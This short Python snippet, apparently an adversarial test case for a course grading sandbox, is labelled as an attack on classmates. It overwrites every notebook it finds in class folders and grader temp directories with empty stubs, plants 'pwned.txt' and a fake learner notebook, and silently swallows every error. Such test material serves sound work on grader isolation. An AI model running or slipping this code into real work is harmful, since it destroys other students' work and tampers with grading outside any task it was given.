# attack: overwrites every classmate's notebook it can find with a stub, and drops files into the class folder
# honest: ex01_bucket_picker
# where: ex02_keep_outputs
import json, os, glob
for folder in _adv_class_folders():
    for p in glob.glob(os.path.join(folder, "**", "*.ipynb"), recursive=True):
        try:
            with open(p, "w") as f:
                json.dump({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, f)
        except Exception:
            pass
    for name in ("pwned.txt", "zz_fake_learner/06_exercises.ipynb"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            open(os.path.join(folder, name), "w").write("{}")
        except Exception:
            pass
for p in glob.glob("/tmp/graphcourse-grade-*/**/*.ipynb", recursive=True):
    try:
        open(p, "w").write("{}")
    except Exception:
        pass
